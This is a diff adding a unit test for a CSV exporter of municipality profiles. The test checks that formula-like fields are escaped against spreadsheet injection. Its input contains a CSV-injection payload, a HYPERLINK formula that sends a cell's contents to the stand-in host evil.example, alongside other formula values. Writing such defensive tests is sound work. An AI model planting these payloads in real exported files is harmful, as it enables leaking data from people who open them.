@@ -4,6 +4,7 @@ using ConsultDesk.Domain;
 using ConsultDesk.Domain.LocalGovernments;
 using ConsultDesk.Domain.Matching;
 using ConsultDesk.Features.Municipalities;
+using ConsultDesk.Tests;
 
 namespace ConsultDesk.UnitTests.Municipalities;
 
@@ -141,6 +142,30 @@ public sealed class MunicipalityCsvTests
             Assert.Equal(System.Text.Json.JsonSerializer.Serialize(expected, Wire.JsonOptions),
                 System.Text.Json.JsonSerializer.Serialize(group.Profile with { NameKana = profile.NameKana }, Wire.JsonOptions));
         }
+    }
+
+    [Fact]
+    public void Text_that_looks_like_a_formula_is_escaped_for_excel_and_reads_back_unchanged()
+    {
+        var now = new DateTime(2026, 11, 1, 0, 0, 0, DateTimeKind.Utc);
+        var input = new MunicipalityInput
+        {
+            Name = "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")", ContactDepartment = "@企画課", ContactEmail = "kikaku@example.jp",
+            ContactPhone = "+81-3-0000-0000", Description = "-紹介", WelcomedIndustries = ["G"], WelcomedCompanySizes = ["small"],
+            Offices = [new OfficeInput { Name = "+オフィス", Address = "=A1", Seats = 10, AvailableSeats = 4, MonthlyFeePerSeat = 0, BandwidthMbps = 1000,
+                MeetingRooms = 0, OpeningHours = "-", TravelMinutesFromTokyo = 200 }],
+            Incentives = [new IncentiveInput { Name = "@補助", Kind = IncentiveKind.Subsidy, Rate = "-", Eligibility = "=1+1" }],
+        };
+        var profile = input.ApplyTo(null, "363421", LocalGovernmentDirectory.LoadEmbedded(), now);
+
+        var bytes = MunicipalityCsv.Write([profile]);
+        var result = MunicipalityCsv.Read(bytes);
+
+        Assert.Empty(SpreadsheetCsv.Formulas(bytes));
+        Assert.Contains("'+81-3-0000-0000", SpreadsheetCsv.Parse(bytes).SelectMany(r => r));
+        Assert.Empty(result.Errors);
+        Assert.Equal(System.Text.Json.JsonSerializer.Serialize(MunicipalityInput.From(profile), Wire.JsonOptions),
+            System.Text.Json.JsonSerializer.Serialize(Assert.Single(result.Groups).Profile with { NameKana = profile.NameKana }, Wire.JsonOptions));
     }
 
     [Fact]
